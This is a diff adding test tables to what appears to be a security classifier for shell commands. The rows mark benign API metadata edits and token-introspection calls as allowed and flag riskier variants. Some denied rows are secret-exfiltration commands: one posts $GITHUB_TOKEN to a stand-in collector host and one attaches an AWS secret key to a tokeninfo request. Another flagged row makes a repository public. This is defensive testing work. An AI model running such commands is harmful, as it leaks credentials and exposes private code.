@@ -143,3 +143,24 @@ describe('serverless remove and cdk destroy take a whole stack: by its stage, as
     a cdk diff ProdStack
   `))('%s %s', expectRow);
 });
+
+describe('an update that sets only descriptive text (description, title, topics) is an edit; access, visibility, names and state are not text', () => {
+  it.each(rows(`
+    a curl -X PATCH https://api.github.com/repos/acme/api -H "Authorization: Bearer $GH" -d '{"description":"Payments API"}'
+    a http PUT https://gitlab.com/api/v4/projects/12 description="Billing service" topics:='["billing","go"]' "PRIVATE-TOKEN:$GL"
+    a curl -X PUT -u me@acme.com:$JT https://acme.atlassian.net/rest/api/3/issue/PAY-12 -d '{"fields":{"summary":"Fix rounding in refunds"}}'
+    a Invoke-RestMethod -Method Patch -Uri https://api.vercel.com/v9/projects/prj_1 -Body '{"description":"marketing site"}' -Headers @{Authorization="Bearer $t"}
+    v curl -X PATCH https://api.github.com/repos/acme/api -H "Authorization: Bearer $GH" -d '{"description":"Payments API","private":false}'
+    v curl -X PATCH https://api.github.com/repos/acme/api -H "Authorization: Bearer $GH" -d '{"name":"payments-api-old"}'
+  `))('%s %s', expectRow);
+});
+
+describe("a token handed back to its issuer to check it (tokeninfo, introspect, userinfo) authenticates; another secret with it still leaves", () => {
+  it.each(rows(`
+    a curl -X POST https://oauth2.googleapis.com/tokeninfo -d id_token=$ID_TOKEN
+    a curl -X POST https://acme.okta.com/oauth2/default/v1/introspect -d token=$ACCESS_TOKEN -d token_type_hint=access_token -u $CLIENT_ID:$CLIENT_SECRET
+    a curl https://sso.acme.com/realms/staff/protocol/openid-connect/userinfo -H "Authorization: Bearer $ACCESS_TOKEN"
+    d curl -X POST https://oauth2.googleapis.com/tokeninfo -d id_token=$ID_TOKEN -d note=$AWS_SECRET_ACCESS_KEY
+    d curl -X POST https://collector.example.net/introspect -d token=$GITHUB_TOKEN
+  `))('%s %s', expectRow);
+});
